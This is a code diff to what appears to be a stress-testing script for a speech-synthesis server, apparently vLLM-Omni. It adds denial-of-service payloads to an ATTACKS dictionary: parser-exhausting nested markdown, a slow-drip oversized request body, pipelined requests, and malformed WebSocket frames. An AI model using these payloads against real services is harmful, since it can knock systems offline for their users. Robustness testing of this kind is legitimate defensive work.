@@ -29,6 +29,9 @@ _CONFIG = _frame(Opcode.TEXT, b'{"type":"session.config","voice":"eric"}')
 _ENDS = _frame(Opcode.TEXT, json.dumps({"type": "input.text", "text": ". " * 60_000}).encode())
 _MARKS = json.dumps({"items": [{"input": "![" * 2048}] * 32, "text_filter": "markdown", "voice": "eric"}).encode()
 _BATCH = b"POST /v1/audio/speech/batch HTTP/1.1\r\nContent-Length: %d\r\n" % len(_MARKS) + _HOST + b"\r\n" + _MARKS
+_MARKUP = json.dumps({"input": "![a](" * 25_000, "text_filter": "markdown", "voice": "eric"}).encode()
+_LONG = b"POST /v1/audio/speech HTTP/1.1\r\nContent-Length: %d\r\n" % len(_MARKUP) + _HOST + b"\r\n" + _MARKUP
+_BODY = b"POST /v1/audio/speech HTTP/1.1\r\nContent-Length: 16000000\r\n" + _HOST + b"\r\n"
 # What is sent once a connection, whether its answer is awaited first, and what is sent again and again after it.
 ATTACKS: dict[str, tuple[bytes, bytes]] = {
     "headers": (b"GET / HTTP/1.1\r\n" + _HOST, b"a: b\r\n"),
@@ -41,6 +44,11 @@ ATTACKS: dict[str, tuple[bytes, bytes]] = {
     "messages of vLLM-Omni": (_PLAIN, _frame(Opcode.TEXT, b"{}")),
     "ends of sentences": (_PLAIN, _CONFIG + _ENDS),
     "marks": (b"", _BATCH),
+    "markup": (b"", _LONG),
+    "body of spaces": (_BODY, b" "),
+    "pipelined requests": (b"", b"GET /v1/models HTTP/1.1\r\n" + _HOST + b"\r\n"),
+    "unmasked frames": (_OURS, Frame(Opcode.TEXT, b"{}").serialize(mask=False)),
+    "reserved bits": (_OURS, Frame(Opcode.TEXT, b"{}", rsv1=True).serialize(mask=True)),
 }
 
 
